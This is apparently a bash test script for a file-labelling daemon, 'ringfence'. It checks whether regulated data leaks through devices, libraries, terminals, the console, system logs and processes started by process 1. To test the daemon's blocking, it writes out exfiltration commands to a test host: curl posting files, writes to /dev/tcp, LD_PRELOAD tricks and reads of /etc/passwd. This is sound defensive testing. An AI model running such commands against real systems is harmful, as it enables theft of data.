#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# Row 20, and what everything touches: where the label goes by it, and where it does not
#
# run-long:
#
#	opens the file                               never does
#	  +-------+    +----------------------+      +-------+
#	  | giver |--->| null, libraries, tty |      | taker |---> us
#	  |       |    +----------------------+      |       |
#	  |       |--->| logs, screen, a      |----->|       |--x us
#	  |       |    | library that it wrote|      |       |
#	  +-------+    +----------------------+      +-------+
. "$(dirname "$0")/lib/case.sh"
. "$(dirname "$0")/lib/holder.sh"
. "$(dirname "$0")/lib/services.sh"

mkdir -m 1777 /run/touched
touch /run/touched/read
sends() { "$ATTACK/obtain" read "$PUBLIC" "$(address us 4)"; }
# gives COMMAND...: by somebody who has the label, and is there until it ends
gives() { (exec 9<"$REGULATED" && "$@") >/dev/null 2>&1; }

# --- nothing is kept there

# device NAME: the taker opens it after the giver wrote to it, reads, and sends
write_to() { cat "$REGULATED" >"$1"; }
device()
{
	gives write_to "$1"
	exec 8<>"$1"
	head -c 100 <&8 >/run/touched/read
	echo >&8
	sends
}
for name in null zero full random urandom; do
	free "/dev/$name" device "/dev/$name"
	fails "/dev/$name: nothing of the file" grep -qaFf $REGULATED /run/touched/read
done

# --- libraries and programs

uses() { gives /bin/bash -c 'cat </etc/passwd; date; ldd /bin/sh'; curl -sS -m 30 "http://$US4/" --data-binary "@$PUBLIC"; }
free "libraries and programs that the giver used" uses
# Those that it wrote
gives install -m 755 "$ATTACK/obtain" /run/touched/obtain
held "a program that the giver wrote" /run/touched/obtain read $PUBLIC "$US4"
library=$(ldd /bin/bash | sed -n 's/.*=> \([^ ]*tinfo[^ ]*\).*/\1/p')
install -m 755 "$library" /run/touched/free.so
gives install -m 755 "$library" /run/touched/held.so
preloads() { LD_PRELOAD=$1 /bin/bash -c "cat >/dev/tcp/$US4/9000" <$PUBLIC; }
free "a library that somebody else wrote" preloads /run/touched/free.so
EXPECT=silence held "a library that the giver wrote" preloads /run/touched/held.so

# --- terminals

# Both at the same terminal: what is typed is read, not what was printed.
cat >/run/touched/typed.py <<'END'
import os, subprocess, sys
master, slave = os.openpty()
subprocess.run(["head", "-n", "3", sys.argv[1]], stdout=slave, check=True)
os.write(master, b"go\n")
assert os.read(slave, 10) == b"go\n"
os.execv(sys.argv[2], sys.argv[2:])
END
typed() { /usr/bin/python3 -IS /run/touched/typed.py "$1" "$ATTACK/obtain" read $PUBLIC "$US4"; }
free "what is typed at a terminal that the giver printed on" typed $REGULATED

console() { gives write_to /dev/console; sends; }
free "the console" console
# Root may have what the console is given at another terminal.
cat >/run/touched/console.py <<'END'
import fcntl, os, subprocess, sys, termios
master, slave = os.openpty()
fcntl.ioctl(slave, termios.TIOCCONS)
with open("/dev/console", "wb") as console:
    subprocess.run(["head", "-n", "16", sys.argv[1]], stdout=console, check=True)
with open("/run/touched/console", "wb") as file:
    file.write(os.read(master, 65536))
END
redirected()
{
	/usr/bin/python3 -IS /run/touched/console.py "$FILE"
	send /run/touched/console
}
USERS=root deny "the console, at another terminal" redirected
screen()
{
	head -n 16 "$FILE" >/dev/tty9
	cat /dev/vcs9 >/run/touched/screen
	send /run/touched/screen
}
USERS=root deny "the screen of a virtual console" screen

# --- logs

both start_rsyslogd
log_file()
{
	local end=end-$RANDOM$RANDOM log

	log=$SERVICES/logged-$(port 514)
	logger -u "$SERVICES/log-$(port 514)" -f "$FILE" &&
	logger -u "$SERVICES/log-$(port 514)" "$end" &&
	wait_until grep -q "$end" "$log"
	send "$log"
}
USERS=user deny "what rsyslogd wrote" log_file

# The kernel's log, by /dev/kmsg and by the call. It keeps its label: one case.
echo on >/proc/sys/kernel/printk_devkmsg
kernel_log()
{
	(while read -r line; do echo "$line" >/dev/kmsg; done) < <(head -n 16 "$FILE")
	dmesg >/run/touched/log
	dmesg -S >/run/touched/log-again
	send /run/touched/log
	send /run/touched/log-again
}
ATLEAST=16 USERS=root deny "the kernel's log" kernel_log

# --- the daemon

# Who asks it tells it something: the names in a policy, a path, a process.
asks()
{
	ringfence status >/run/touched/status && exec 8</run/touched/status &&
	sends
}
gives ringfence status
held_by() { (ringfence ps | grep -q "$1"); }
ok "the daemon, which was asked by the giver, has the label" held_by ringfenced
free "who asks the daemon then" asks
wait_until grep -q ringfence /var/log/ringfence.log
reads() { exec 8</var/log/ringfence.log && sends; }
free "who reads what the daemon logged then" reads

# --- process 1, which starts what services are made of

cat >/run/start <<END
#!/bin/sh
read file </run/touched/file
"$ATTACK/obtain" read "\$file" "$US4" >/dev/null 2>&1
echo \$? >/run/touched/started
END
chmod 755 /run/start
# started FILE COMMAND...: which makes it start one that sends FILE
started()
{
	echo "$1" >/run/touched/file
	: >/run/touched/started
	shift
	"$@"
	wait_until test -s /run/touched/started
}
# With a value, which is what it is told.
tells() { gives /bin/kill -q 1 -s USR1 1; }
free "what process 1 starts" started $PUBLIC /bin/kill -s USR1 1
free "what it starts after the giver has told it something" started $PUBLIC tells
ok "process 1, which was told, has the label" eval "ringfence ps --json | grep -q '\"pid\":1,'"
EXPECT=silence held "what it starts, and opens the file" started $REGULATED /bin/kill -s USR1 1

# It executes another program, and that one starts others with its own memory.
cat >/run/init <<'END'
#!/usr/bin/python3 -IS
import os, signal, sys
script, marker = int(sys.argv[1]), sys.argv[2].encode()
signal.signal(signal.SIGUSR1, lambda *_: os.posix_spawn("/run/start", ["start"], os.environ))
with open("/run/touched/next", "w"):
    pass
while True:
    pid, status = os.wait()
    if pid == script:
        break
for fd in 6, 7:
    os.write(fd, marker)
os.write(5, b"exit %d\n" % os.waitstatus_to_exitcode(status))
signal.pause()
END
chmod 755 /run/init
/bin/kill -s USR2 1
ok "process 1 is another program" wait_until test -e /run/touched/next
free "what that one starts" started $PUBLIC /bin/kill -s USR1 1
ok "it has the label as before" eval "ringfence ps --json | grep -q '\"pid\":1,'"
EXPECT=silence held "what that one starts, and opens the file" started $REGULATED /bin/kill -s USR1 1
ok "a policy with a cgroup" ringfence apply "$here/tests/vm/policy/cgroups.yaml"
mkdir -p /sys/fs/cgroup/rf/regulated
free "what it starts, before it is in the cgroup" started $PUBLIC /bin/kill -s USR1 1
echo 1 >/sys/fs/cgroup/rf/regulated/cgroup.procs
EXPECT=silence held "what it starts in a cgroup that gives a label" started $PUBLIC /bin/kill -s USR1 1
